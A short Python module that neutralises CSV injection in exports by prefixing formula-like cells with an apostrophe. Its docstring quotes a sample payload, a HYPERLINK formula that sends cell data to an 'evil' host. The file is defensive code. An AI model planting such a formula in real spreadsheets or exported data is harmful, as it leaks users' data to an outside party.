"""CSV a spreadsheet opens as data, never as formulas, in UTF-8 that it is told about.

VM names come from the platform and names and reasons from users: a cell such as
`=HYPERLINK("http://evil/?"&A1)` would run when the export is opened. Text that starts like a
formula (= + - @, a tab or a carriage return) gets a leading apostrophe, which spreadsheets
show as plain text (OWASP's CSV injection advice). Numbers stay numbers.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

CONTENT_TYPE = "text/csv; charset=utf-8"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def cell(value: Any) -> Any:
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def row(values: Iterable[Any]) -> list[Any]:
    return [cell(value) for value in values]
